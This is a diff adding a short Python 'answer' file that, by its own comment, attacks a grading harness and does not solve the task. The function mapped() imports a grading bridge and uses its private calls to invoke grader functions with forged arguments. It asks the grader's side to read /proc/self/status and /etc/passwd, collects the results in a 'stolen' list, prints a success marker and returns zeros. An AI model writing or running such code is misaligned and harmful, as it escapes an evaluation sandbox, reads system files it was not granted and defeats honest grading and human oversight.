@@ -1,0 +1,22 @@
+# The answer calls the test's functions by their numbers, with forged arguments, and has files of the tests' side read.
+import numpy as np
+
+stolen = []
+
+
+def mapped(function, array):
+    try:
+        import grading.bridge as bridge
+
+        for number in range(1, 5):
+            content = {
+                "number": number, "arguments": [bridge.end._pack(7)], "keywords": {}, "floats": {},
+                "files": {"/proc/self/status": None, "/etc/passwd": None},
+            }
+            answer = bridge.end._ask("call", content)
+            stolen.extend(answer["files"])
+            if answer["files"]:
+                print("got" + "<through>")
+    except ImportError:
+        pass
+    return array * 0
